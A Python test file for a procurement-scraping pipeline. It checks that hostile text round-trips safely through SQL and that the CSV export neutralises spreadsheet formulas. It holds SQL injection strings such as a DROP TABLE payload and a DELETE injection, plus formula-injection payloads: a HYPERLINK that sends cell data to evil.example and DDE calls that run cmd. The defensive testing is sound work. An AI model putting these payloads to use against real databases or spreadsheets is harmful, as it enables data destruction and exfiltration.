"""Scraped text is data everywhere: bound in SQL (SQLite and PostgreSQL, COPY included) and
neutralised in the CSV export a spreadsheet opens.

A package whose every text field carries SQL, COPY escapes, driver placeholders and quotes is
stored and read back character for character, with every table still there. Names starting
with a formula character come out of `lpse-leads packages export --format csv` as text.
"""

from __future__ import annotations

import csv
from decimal import Decimal
from typing import Any

import pytest
from sqlalchemy import func, inspect, select

from dbschema import upgrade
from lpse_leads.cli import main
from pipeline.db import make_engine
from pipeline.export import iter_records
from pipeline.models import Package
from pipeline.writer import PackageWriter
from tests.db.conftest import make_record

HOSTILE = [
    "'); DROP TABLE packages; --",
    "Robert'); DELETE FROM sites WHERE ('1'='1",
    'say "hi" \\" \\\' \\\\ end\\',
    "\\N",  # COPY's NULL marker
    "\\.",  # COPY's end-of-data marker
    "tab\there, new\nline, cr\rreturn",
    "%s %(name)s :name ? $1 {0}",
    "x\u00a0y \u202e kanan-ke-kiri",
]


def hostile_record(code: str) -> dict[str, Any]:
    """A package with hostile text in every text field, list and winner field."""
    winner = {"name": HOSTILE[1], "address": HOSTILE[2], "npwp": "015448632009000"}
    winner["offer_value"] = Decimal("1")
    return make_record(
        code=code,
        name=HOSTILE[0],
        agency=HOSTILE[5],
        work_unit=HOSTILE[6],
        method=HOSTILE[7],
        funding_source=HOSTILE[3],
        flags=HOSTILE[:4],
        locations=[f"{text} - Jakarta Utara (Kota)" for text in HOSTILE],
        stages=[{"name": text} for text in HOSTILE],
        winners=[winner],
        contract_winners=[{**winner, "name": HOSTILE[4], "address": HOSTILE[3]}],
    )


def test_hostile_text_is_stored_and_read_back_exactly(db_url):
    engine = make_engine(db_url)
    upgrade(engine)
    tables = set(inspect(engine).get_table_names())
    record = hostile_record("66601")
    writer = PackageWriter(engine)
    writer.write([(record, "fp")])
    changed = {**record, "name": HOSTILE[1], "locations": list(reversed(record["locations"]))}
    result = writer.write([(changed, "fp2")])  # a change: history rows carry the hostile text too
    assert result.changed == 1
    got = list(iter_records(engine))
    assert set(inspect(engine).get_table_names()) == tables
    with engine.connect() as connection:
        assert connection.execute(select(func.count()).select_from(Package)).scalar_one() == 1
    engine.dispose()
    assert got == [changed]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "-2+3+cmd|' /C calc'!A0",
    "+62 812 0000",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_export_neutralises_formulas_in_every_text_column(db_url, tmp_path):
    engine = make_engine(db_url)
    upgrade(engine)
    records = []
    for i, text in enumerate(FORMULAS):
        winner = {"name": text, "address": text}
        records.append(
            make_record(code=f"7770{i}", name=text, agency=text, locations=[text], winners=[winner], flags=[])
        )
    PackageWriter(engine).write([(r, None) for r in records])
    engine.dispose()
    out = tmp_path / "packages.csv"
    assert main(["packages", "export", "--format", "csv", "--db", db_url, "--output", str(out)]) == 0
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["code"] for row in rows] == [f"7770{i}" for i in range(len(FORMULAS))]
    for row, text in zip(rows, FORMULAS, strict=True):
        for column in ("name", "agency", "locations", "winner_name", "winner_address"):
            assert row[column] == "'" + text, (column, row[column])


@pytest.mark.parametrize("value", [Decimal("-5"), -5, None, "ok", "a=b"])
def test_safe_cell_leaves_numbers_and_plain_text_alone(value):
    from leads.export import safe_cell as leads_safe_cell
    from pipeline.export import safe_cell

    assert leads_safe_cell is safe_cell
    assert safe_cell(value) == value
